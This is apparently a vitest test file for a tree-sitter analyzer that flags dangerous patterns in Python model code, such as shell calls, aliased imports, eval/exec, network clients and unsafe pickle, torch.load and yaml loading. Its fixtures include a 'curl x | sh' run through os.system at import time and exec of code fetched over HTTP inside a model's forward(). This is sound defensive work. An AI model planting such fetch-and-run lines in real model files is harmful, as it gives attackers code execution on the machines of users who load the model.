import { describe, expect, it } from 'vitest';
import { analyzePythonSource } from './analyze.js';

const ids = async (src: string) => (await analyzePythonSource(src)).issues.map((i) => `${i.rule.id}@${i.line}`);

describe('Python source analysis (tree-sitter)', () => {
  it('flags os.system at import time with its line', async () => {
    const a = await analyzePythonSource(
      "import os\nfrom transformers import PreTrainedModel\nos.system('curl x | sh')\n",
    );
    expect(a.issues.map((i) => [i.rule.id, i.line])).toEqual([['python/shell-command', 3]]);
    expect(a.issues[0]?.message).toMatch(/at import time/);
    expect(a.imports).toEqual(['os', 'transformers']);
  });

  it('resolves import aliases: import os as o; from subprocess import Popen as P', async () => {
    expect(await ids("import os as o\nfrom subprocess import Popen as P\no.system('x')\nP(['id'])\n")).toEqual([
      'python/shell-command@3',
      'python/shell-command@4',
    ]);
  });

  it('resolves assignment aliases, getattr and __import__ chains', async () => {
    const src = [
      'import os',
      's = os.system',
      "s('a')",
      "getattr(os, 'system')('b')",
      "__import__('subprocess').check_output(['c'])",
      "import importlib; importlib.import_module('os').popen('d')",
    ].join('\n');
    expect((await ids(src)).sort()).toEqual([
      'python/code-execution@5',
      'python/code-execution@6',
      'python/shell-command@3',
      'python/shell-command@4',
      'python/shell-command@5',
      'python/shell-command@6',
    ]);
  });

  it('from os import * then system() is resolved', async () => {
    expect(await ids("from os import *\nsystem('id')\n")).toEqual(['python/shell-command@2']);
  });

  it('eval/exec, network clients, ctypes, marshal inside model code', async () => {
    const src = [
      'import requests, ctypes, marshal, socket',
      'import urllib.request',
      'class M:',
      '    def forward(self, x):',
      "        exec(requests.get('http://x').text)",
      "        ctypes.CDLL('libx.so')",
      '        marshal.loads(b"")',
      "        urllib.request.urlopen('http://y')",
      '        socket.create_connection(("h", 1))',
    ].join('\n');
    const a = await analyzePythonSource(src);
    expect(a.issues.map((i) => i.rule.id).sort()).toEqual(
      [
        'python/code-execution',
        'python/native-code',
        'python/network-access',
        'python/network-access',
        'python/network-access',
        'python/unsafe-deserialization',
      ].sort(),
    );
    expect(a.issues[0]?.message).toMatch(/in forward\(\)/);
  });

  it('torch.load is flagged unless weights_only=True; numpy.load only with allow_pickle=True; yaml with SafeLoader is fine', async () => {
    const src = [
      'import torch, pickle, yaml',
      'import numpy as np',
      "torch.load('a')",
      "torch.load('b', weights_only=True)",
      "torch.load('c', weights_only=False)",
      "np.load('d')",
      "np.load('e', allow_pickle=True)",
      "pickle.load(open('f', 'rb'))",
      'yaml.load(s, Loader=yaml.SafeLoader)',
      'yaml.load(s)',
    ].join('\n');
    expect(await ids(src)).toEqual([
      'python/unsafe-deserialization@3',
      'python/unsafe-deserialization@5',
      'python/unsafe-deserialization@7',
      'python/unsafe-deserialization@8',
      'python/unsafe-deserialization@10',
    ]);
  });

  it('benign model code is clean (no false alarm on method names like .load or .run)', async () => {
    const src = [
      'import torch',
      'from torch import nn',
      'from transformers import PreTrainedModel',
      'class Net(PreTrainedModel):',
      '    def __init__(self, config):',
      '        super().__init__(config)',
      '        self.fc = nn.Linear(4, 2)',
      '    def forward(self, x):',
      '        return self.fc(x).run().load()',
      'def system(x):',
      '    return x',
      'system(1)',
    ].join('\n');
    expect(await ids(src)).toEqual([]);
  });

  it('syntax errors do not stop the analysis', async () => {
    const a = await analyzePythonSource("import os\ndef broken(:\n    pass\nos.system('x')\n");
    expect(a.hasSyntaxErrors).toBe(true);
    expect(a.issues.map((i) => i.rule.id)).toEqual(['python/shell-command']);
  });

  it('refuses files over the byte cap and stops parsing at the deadline', async () => {
    expect((await analyzePythonSource('x = 1\n'.repeat(100), { maxBytes: 10 })).error?.code).toBe('limit_exceeded');
    const huge = `x = [${'(1, '.repeat(200_000)}${')'.repeat(200_000)}]\n`;
    const t = performance.now();
    const a = await analyzePythonSource(huge, { timeoutMs: 50 });
    expect(performance.now() - t).toBeLessThan(5_000);
    expect(a.error?.code).toBe('timeout');
  });
});
